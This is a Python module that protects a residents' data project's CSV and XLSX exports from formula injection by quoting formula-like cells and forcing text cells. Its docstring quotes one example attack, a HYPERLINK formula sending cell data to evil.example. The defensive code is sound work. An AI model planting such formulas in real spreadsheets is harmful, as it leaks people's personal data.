"""Text in the spreadsheets the project writes stays text: never a formula, never a link.

Names, places, contacts and episodes come from residents. A cell that starts with
``= + - @``, a tab or a carriage return is read by Excel, LibreOffice or Google Sheets as a
formula (``=HYPERLINK("http://evil.example/?leak="&A2,"詳細はこちら")`` sends a
neighbour's data away with one click). Every file goes through this module:

- CSV: such a cell gets a leading single quote, as OWASP's advice on CSV injection says
  (``'=1+2``); a spreadsheet shows it as text;
- XLSX: every text is written as a string cell (openpyxl: ``data_type`` ``s``; XlsxWriter:
  ``write_string``), so nothing needs changing in what people see.

Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

from openpyxl.worksheet.worksheet import Worksheet as OpenpyxlSheet
from xlsxwriter.format import Format
from xlsxwriter.worksheet import Worksheet as XlsxWriterSheet

from models.text import looks_like_formula

# XlsxWriter's own reading of text (formulas, links, numbers) switched off as well.
XLSXWRITER_OPTIONS = {"in_memory": True, "strings_to_formulas": False,
                      "strings_to_urls": False, "strings_to_numbers": False}


def csv_cell(value: Any) -> Any:
    """Return a CSV cell: text that looks like a formula gets a leading single quote."""
    return "'" + value if looks_like_formula(value) else value


def csv_bytes(header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    """Return a CSV file with a byte-order mark (so Excel reads the Japanese right), every
    cell through ``csv_cell``."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer)
    for values in (header, *rows):
        writer.writerow([csv_cell(value) for value in values])
    return buffer.getvalue().encode("utf-8-sig")


def append_openpyxl_row(sheet: OpenpyxlSheet, values: Sequence[Any]) -> None:
    """Append a row to an openpyxl sheet with every text as a string cell."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"  # openpyxl takes text starting with = for a formula


def write_xlsxwriter_row(sheet: XlsxWriterSheet, row: int, values: Sequence[Any],
                         cell_format: Format | None = None) -> None:
    """Write a row on an XlsxWriter sheet with every text as a string cell (an empty text
    leaves the cell empty, as XlsxWriter's ``write`` does)."""
    for column, value in enumerate(values):
        if isinstance(value, str) and value:
            sheet.write_string(row, column, value, cell_format)
        else:
            sheet.write(row, column, value, cell_format)
